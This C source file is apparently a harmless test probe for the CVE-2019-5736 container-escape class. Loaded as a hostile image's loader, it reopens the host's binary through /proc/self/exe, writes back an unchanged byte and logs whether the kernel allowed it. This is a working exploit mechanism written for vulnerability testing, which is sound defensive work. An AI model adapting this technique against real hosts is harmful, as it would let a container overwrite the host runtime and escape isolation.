/* The dynamic loader of a hostile image (the CVE-2019-5736 class): whoever executes a program of the host's in this
   container runs this instead, with /proc/self/exe leading to the host's program.  It tries to write to it, one byte
   that is there already, so that a success does no harm, and leaves what it was and what the kernel said to opening and
   writing in /result (000: done).
   No C library: it is started as a loader. */
#include <asm/unistd.h>
#include <fcntl.h>

static long call(long number, long a, long b, long c, long d)
{
    long result;
    register long fourth __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                     : "rcx", "r11", "memory");
    return result;
}

static char link[64];

static void tell(long opened, long written)
{
    char text[96];
    int at = 0;
    for (int place = 0; place < 60 && link[place]; place++)
        text[at++] = link[place];
    text[at++] = ' ';
    long values[2] = {-opened, -written};
    for (int which = 0; which < 2; which++) {
        long value = values[which] < 0 ? 0 : values[which];
        text[at++] = '0' + value / 100 % 10;
        text[at++] = '0' + value / 10 % 10;
        text[at++] = '0' + value % 10;
        text[at++] = which ? '\n' : ' ';
    }
    long out = call(__NR_open, (long)"/result", O_WRONLY | O_CREAT | O_APPEND, 0666, 0);
    call(__NR_write, out, (long)text, at, 0);
}

void _start(void)
{
    char path[] = "/proc/self/fd/0", byte;
    long wait[2] = {0, 20000000};
    call(__NR_readlink, (long)"/proc/self/exe", (long)link, 60, 0);
    long exe = call(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0, 0);
    if (exe < 0 || exe > 9)
        tell(exe, 0);
    path[14] = '0' + exe;
    long opened = -1, written = 0;
    if (call(__NR_fork, 0, 0, 0, 0) == 0) {
        for (int round = 0; round < 25; round++) { /* busy as long as it runs */
            opened = call(__NR_open, (long)path, O_WRONLY, 0, 0);
            if (opened >= 0) {
                call(__NR_pread64, exe, (long)&byte, 1, 0);
                written = call(__NR_pwrite64, opened, (long)&byte, 1, 0);
                break;
            }
            call(__NR_nanosleep, (long)wait, 0, 0, 0);
        }
        tell(opened, written);
        call(__NR_exit_group, 0, 0, 0, 0);
    }
    char *sleep[] = {"sleep", "3", 0}; /* lets go of the program, and keeps the container */
    call(__NR_execve, (long)"/bin/sleep", (long)sleep, 0, 0);
    call(__NR_exit_group, 9, 0, 0, 0);
}
